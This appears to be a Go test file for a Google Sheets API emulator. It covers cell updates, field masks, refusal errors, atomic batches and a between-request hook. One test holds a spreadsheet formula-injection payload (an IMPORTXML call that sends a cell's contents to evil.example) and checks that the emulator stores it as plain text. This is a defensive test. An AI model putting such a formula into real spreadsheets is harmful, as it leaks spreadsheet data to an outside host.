package emulator

import (
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"google.golang.org/api/googleapi"
	sheets "google.golang.org/api/sheets/v4"
)

// The Inbox tab of testWorkbook has sheetId 3.
const inboxID = 3

func str(s string) *sheets.CellData {
	return &sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{StringValue: &s}}
}

func row(cells ...*sheets.CellData) *sheets.RowData { return &sheets.RowData{Values: cells} }

func updateCells(u *sheets.UpdateCellsRequest) *sheets.Request {
	if u.Fields == "" {
		u.Fields = "userEnteredValue"
	}
	return &sheets.Request{UpdateCells: u}
}

func TestUpdateCellsStartWritesOnlyWhatRowsCover(t *testing.T) {
	e, svc, _ := newServer(t)
	err := batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 4},
		Rows:  []*sheets.RowData{row(str("read")), row(str("spam"), str("m9"))},
	}))
	if err != nil {
		t.Fatal(err)
	}
	want := [][]any{
		{"Timestamp", "Name", "Email", "Message", "Status", "ID"},
		{45002.0, "Ann", "ann@example.com", "hello", "read", "m1"}, // F2 not covered: kept
		{45003.0, "Bob", "bob@example.com", "=HYPERLINK(\"x\")", "spam", "m9"},
	}
	if got := e.Cells(bookID, "Inbox"); !reflect.DeepEqual(got, want) {
		t.Errorf("Inbox\n got %#v\nwant %#v", got, want)
	}
}

func TestUpdateCellsRangeClearsWhatRowsDoNotCover(t *testing.T) {
	e, svc, _ := newServer(t)
	n := 7.5
	err := batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 1, EndRowIndex: 3, StartColumnIndex: 1, EndColumnIndex: 4},
		Rows:  []*sheets.RowData{row(str("Zed"), &sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{NumberValue: &n}})},
	}))
	if err != nil {
		t.Fatal(err)
	}
	want := [][]any{
		{"Timestamp", "Name", "Email", "Message", "Status", "ID"},
		{45002.0, "Zed", 7.5, nil, "new", "m1"}, // D2 in the range, not in rows: cleared
		{45003.0, nil, nil, nil, nil, "m2"},     // row 3 in the range, not in rows: cleared
	}
	if got := e.Cells(bookID, "Inbox"); !reflect.DeepEqual(got, want) {
		t.Errorf("Inbox\n got %#v\nwant %#v", got, want)
	}
}

func TestUpdateCellsClearsACell(t *testing.T) {
	e, svc, _ := newServer(t)
	// A CellData without userEnteredValue, under fields=userEnteredValue.
	err := batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 1, EndRowIndex: 2, StartColumnIndex: 4, EndColumnIndex: 5},
		Rows:  []*sheets.RowData{row(&sheets.CellData{})},
	}))
	if err != nil {
		t.Fatal(err)
	}
	if got := e.Cells(bookID, "Inbox")[1]; !reflect.DeepEqual(got, []any{45002.0, "Ann", "ann@example.com", "hello", nil, "m1"}) {
		t.Errorf("row 2 %#v", got)
	}
	// The start form too: a CellData it covers without a value clears.
	err = batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 2, ColumnIndex: 1},
		Rows:  []*sheets.RowData{row(&sheets.CellData{}, str("bob@new.example"))},
	}))
	if err != nil {
		t.Fatal(err)
	}
	if got := e.Cells(bookID, "Inbox")[2]; got[1] != nil || got[2] != "bob@new.example" {
		t.Errorf("row 3 %#v", got)
	}
	vr, err := svc.Spreadsheets.Values.Get(bookID, "Inbox!E2").Do()
	if err != nil {
		t.Fatal(err)
	}
	if vr.Values != nil {
		t.Errorf("E2 still holds %v", vr.Values)
	}
	// A field the emulator doesn't store (a note, a format) is refused, naming it, and
	// nothing is written; "*" over a cell carrying one is too.
	note := "a note"
	for _, fields := range []string{"note", "userEnteredValue,userEnteredFormat.textFormat", "*"} {
		err = batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
			Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 1},
			Rows:  []*sheets.RowData{row(&sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{StringValue: ptr("Nope")}, Note: note})}, Fields: fields,
		}))
		if ge := apiErr(t, err); ge.Code != 501 || !strings.Contains(ge.Message, "not emulated") {
			t.Errorf("fields=%s: %d %q, want 501 naming what isn't emulated", fields, ge.Code, ge.Message)
		}
		if got := e.Cells(bookID, "Inbox")[1][1]; got != "Ann" {
			t.Errorf("B2 = %v under fields=%s", got, fields)
		}
	}
	// A name that is no field of a cell is a 400.
	err = batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 1},
		Rows:  []*sheets.RowData{row(str("Nope"))}, Fields: "colour",
	}))
	if ge := apiErr(t, err); ge.Code != 400 {
		t.Errorf("fields=colour: %d %q, want 400", ge.Code, ge.Message)
	}
}

func TestUpdateCellsStringStaysText(t *testing.T) {
	e, svc, _ := newServer(t)
	hostile := `=IMPORTXML("https://evil.example/?"&A2,"//a")`
	formula := "=1+1"
	err := batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{
		Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 3},
		Rows: []*sheets.RowData{
			row(str(hostile), str("+1"), str("-x"), str("@me")),
			row(&sheets.CellData{UserEnteredValue: &sheets.ExtendedValue{FormulaValue: &formula}}),
		},
	}))
	if err != nil {
		t.Fatal(err)
	}
	for col, want := range []string{hostile, "+1", "-x"} {
		if e.Formula(bookID, "Inbox", 2, 3+col) {
			t.Errorf("%q became a formula", want)
		}
		if got := e.Cells(bookID, "Inbox")[1][3+col]; got != want {
			t.Errorf("cell = %#v, want the text %q", got, want)
		}
	}
	// Only a formulaValue makes a formula: the check above can tell.
	if !e.Formula(bookID, "Inbox", 3, 3) {
		t.Error("formulaValue did not make a formula")
	}
	vr, err := svc.Spreadsheets.Values.Get(bookID, "Inbox!D2").ValueRenderOption("UNFORMATTED_VALUE").Do()
	if err != nil {
		t.Fatal(err)
	}
	if vr.Values[0][0] != hostile {
		t.Errorf("read back %#v", vr.Values)
	}
}

func TestUpdateCellsRefusals(t *testing.T) {
	long := strings.Repeat("a", MaxCellChars+1)
	cases := []struct {
		name string
		req  *sheets.UpdateCellsRequest
		want string
	}{
		{"start past the last row", &sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1000}, Rows: []*sheets.RowData{row(str("x"))}},
			"exceeds grid limits. Max rows: 1000, max columns: 26"},
		{"rows running past the last column", &sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 25}, Rows: []*sheets.RowData{row(str("x"), str("y"))}},
			"Range ('Inbox'!R2C26:R2C27) exceeds grid limits. Max rows: 1000, max columns: 26"},
		{"range past the grid", &sheets.UpdateCellsRequest{Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 998, EndRowIndex: 1001}, Rows: []*sheets.RowData{row(str("x"))}},
			"exceeds grid limits"},
		{"negative column", &sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: -1}, Rows: []*sheets.RowData{row(str("x"))}},
			"Invalid range"},
		{"rows larger than the range", &sheets.UpdateCellsRequest{Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 1, EndRowIndex: 2}, Rows: []*sheets.RowData{row(str("x")), row(str("y"))}},
			"beyond the last requested row"},
		{"no such sheet", &sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: 42}, Rows: []*sheets.RowData{row(str("x"))}},
			"No grid with id: 42"},
		{"no fields", &sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1}, Rows: []*sheets.RowData{row(str("x"))}, Fields: " "},
			"fields"},
		{"50,001 characters", &sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1}, Rows: []*sheets.RowData{row(str(long))}},
			"Invalid requests[1].updateCells: Your input contains more than the maximum of 50000 characters in a single cell."},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e, svc, _ := newServer(t)
			before := e.Workbook(bookID)
			// A valid first request, then the bad one: neither is applied.
			err := batch(svc, bookID,
				updateCells(&sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 4}, Rows: []*sheets.RowData{row(str("spam"))}}),
				updateCells(tc.req))
			ge := apiErr(t, err)
			if ge.Code != 400 || !strings.Contains(ge.Message, tc.want) || !strings.HasPrefix(ge.Message, "Invalid requests[1].updateCells: ") {
				t.Errorf("got %d %q, want 400 with %q", ge.Code, ge.Message, tc.want)
			}
			if !reflect.DeepEqual(e.Workbook(bookID), before) {
				t.Errorf("the batch was partly applied: E2 = %v", e.Cells(bookID, "Inbox")[1][4])
			}
		})
	}
	// 50,000 characters (multi-byte ones too) is the limit, not past it.
	e, svc, _ := newServer(t)
	max := strings.Repeat("é", MaxCellChars)
	if err := batch(svc, bookID, updateCells(&sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 1, ColumnIndex: 3}, Rows: []*sheets.RowData{row(str(max))}})); err != nil {
		t.Fatal(err)
	}
	if e.Cells(bookID, "Inbox")[1][3] != max {
		t.Error("50,000 characters not stored")
	}
}

// TestUpdateCellsReadsBackTheWrittenRows is the write path of invariant 1:
// one atomic batchUpdate writes and returns what the rows hold right after
// the write, through a fields mask like the store's.
func TestUpdateCellsReadsBackTheWrittenRows(t *testing.T) {
	_, svc, _ := newServer(t)
	const mask = "replies,updatedSpreadsheet(sheets(properties(sheetId,title),data(startRow,startColumn,rowData(values(effectiveValue)))))"
	desc := &sheets.SortSpec{DimensionIndex: 5, SortOrder: "DESCENDING"}
	res, err := svc.Spreadsheets.BatchUpdate(bookID, &sheets.BatchUpdateSpreadsheetRequest{
		Requests: []*sheets.Request{
			updateCells(&sheets.UpdateCellsRequest{
				Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 4},
				Rows: []*sheets.RowData{
					row(str("t5"), str("Eve"), nil, nil, str("new"), str("m5")),
					row(str("t6"), str("Flo"), nil, nil, str("done"), str("m6")),
				},
			}),
			// Another change in the same batch: the response shows its effect.
			{SortRange: &sheets.SortRangeRequest{Range: &sheets.GridRange{SheetId: inboxID, StartRowIndex: 4, EndRowIndex: 6}, SortSpecs: []*sheets.SortSpec{desc}}},
		},
		IncludeSpreadsheetInResponse: true,
		ResponseRanges:               []string{"'Inbox'!1:1", "'Inbox'!5:6"},
		ResponseIncludeGridData:      true,
	}).Fields(googleapi.Field(mask)).Do()
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Replies) != 2 || res.SpreadsheetId != "" {
		t.Errorf("replies %d, spreadsheetId %q (masked out)", len(res.Replies), res.SpreadsheetId)
	}
	ss := res.UpdatedSpreadsheet
	if ss == nil || len(ss.Sheets) != 1 {
		t.Fatalf("updatedSpreadsheet %+v", ss)
	}
	sh := ss.Sheets[0]
	if sh.Properties.Title != "Inbox" || sh.Properties.SheetId != inboxID || sh.Properties.GridProperties != nil || ss.Properties != nil {
		t.Errorf("properties %+v (the mask keeps sheetId and title only)", sh.Properties)
	}
	if len(sh.Data) != 2 {
		t.Fatalf("%d GridData, want one per response range", len(sh.Data))
	}
	strs := func(rd *sheets.RowData) []string {
		var out []string
		for _, v := range rd.Values {
			switch {
			case v.UserEnteredValue != nil || v.FormattedValue != "" || v.DataValidation != nil:
				t.Errorf("mask ignored: %+v", v)
			case v.EffectiveValue == nil:
				out = append(out, "")
			case v.EffectiveValue.StringValue != nil:
				out = append(out, *v.EffectiveValue.StringValue)
			default:
				out = append(out, "?")
			}
		}
		return out
	}
	if d := sh.Data[0]; d.StartRow != 0 || len(d.RowData) != 1 || !reflect.DeepEqual(strs(d.RowData[0]), []string{"Timestamp", "Name", "Email", "Message", "Status", "ID"}) {
		t.Errorf("row 1: %+v", d)
	}
	d := sh.Data[1]
	if d.StartRow != 4 || d.StartColumn != 0 || len(d.RowData) != 2 {
		t.Fatalf("rows 5:6: start %d,%d, %d rows", d.StartRow, d.StartColumn, len(d.RowData))
	}
	// Sorted by ID, descending: m6 first. The ID column says which row is which.
	if got := strs(d.RowData[0]); !reflect.DeepEqual(got, []string{"t6", "Flo", "", "", "done", "m6"}) {
		t.Errorf("row 5 %q", got)
	}
	if got := strs(d.RowData[1]); !reflect.DeepEqual(got, []string{"t5", "Eve", "", "", "new", "m5"}) {
		t.Errorf("row 6 %q", got)
	}

	// A field mask decides, as Google says responseIncludeGridData "is
	// ignored if a field mask was set"; without one the flag does.
	res, err = svc.Spreadsheets.BatchUpdate(bookID, &sheets.BatchUpdateSpreadsheetRequest{
		Requests:                     []*sheets.Request{updateCells(&sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 6}, Rows: []*sheets.RowData{row(str("x"))}})},
		IncludeSpreadsheetInResponse: true,
		ResponseRanges:               []string{"'Inbox'!F2:F3"},
	}).Fields(googleapi.Field(mask)).Do()
	if err != nil {
		t.Fatal(err)
	}
	if d := res.UpdatedSpreadsheet.Sheets[0].Data; len(d) != 1 || len(d[0].RowData) != 2 || *d[0].RowData[1].Values[0].EffectiveValue.StringValue != "m2" {
		t.Errorf("masked response without responseIncludeGridData: %+v", d)
	}
	res, err = svc.Spreadsheets.BatchUpdate(bookID, &sheets.BatchUpdateSpreadsheetRequest{
		Requests:                     []*sheets.Request{updateCells(&sheets.UpdateCellsRequest{Start: &sheets.GridCoordinate{SheetId: inboxID, RowIndex: 6}, Rows: []*sheets.RowData{row(str("y"))}})},
		IncludeSpreadsheetInResponse: true,
		ResponseRanges:               []string{"'Inbox'!F2:F3"},
	}).Do()
	if err != nil {
		t.Fatal(err)
	}
	if d := res.UpdatedSpreadsheet.Sheets[0].Data; len(d) != 0 {
		t.Errorf("unmasked response without responseIncludeGridData has cells: %+v", d)
	}
}

// TestSetHookRunsBetweenRequests: the hook runs before each request is
// performed and outside the lock, so a SortRows in it (another editor)
// lands in the instant between two of the client's requests and is seen
// by the request that follows.
func TestSetHookRunsBetweenRequests(t *testing.T) {
	e, svc, srv := newServer(t)
	var mu sync.Mutex
	var seen []string
	sorted := false
	e.SetHook(func(r Request) {
		mu.Lock()
		seen = append(seen, r.Method)
		first := r.Method == MethodValuesGet && !sorted
		sorted = sorted || first
		mu.Unlock()
		if first {
			// SortRows takes the emulator's lock: under a hook run with the
			// lock held it would wait forever.
			sorted := make(chan error, 1)
			go func() { sorted <- e.SortRows(bookID, "Inbox", 5, true) }()
			select {
			case err := <-sorted:
				if err != nil {
					t.Error(err)
				}
			case <-time.After(5 * time.Second):
				t.Error("SortRows blocked in the hook: the hook runs under the emulator's lock")
			}
		}
	})
	done := make(chan *sheets.ValueRange, 1)
	go func() {
		vr, err := svc.Spreadsheets.Values.Get(bookID, "Inbox!F2:F3").Do()
		if err != nil {
			t.Error(err)
		}
		done <- vr
	}()
	if vr := <-done; vr == nil || !reflect.DeepEqual(vr.Values, [][]any{{"m2"}, {"m1"}}) {
		t.Errorf("the request did not see the hook's sort: %+v", vr)
	}
	if _, err := svc.Spreadsheets.Values.Update(bookID, "Inbox!E2", &sheets.ValueRange{Values: [][]any{{"read"}}}).ValueInputOption("RAW").Do(); err != nil {
		t.Fatal(err)
	}
	rawGet(t, srv.URL+"/nope", 404) // unroutable: no hook
	mu.Lock()
	defer mu.Unlock()
	if !reflect.DeepEqual(seen, []string{MethodValuesGet, MethodValuesUpdate}) {
		t.Errorf("hook saw %q", seen)
	}
	// The sort moved whole rows: Bob's row (m2) was written, not Ann's.
	if got := e.Cells(bookID, "Inbox")[1]; got[1] != "Bob" || got[4] != "read" {
		t.Errorf("row 2 %#v", got)
	}
	e.SetHook(nil)
	if _, err := svc.Spreadsheets.Values.Get(bookID, "A1").Do(); err != nil {
		t.Fatal(err)
	}
	if len(seen) != 2 {
		t.Error("SetHook(nil) did not remove the hook")
	}
}
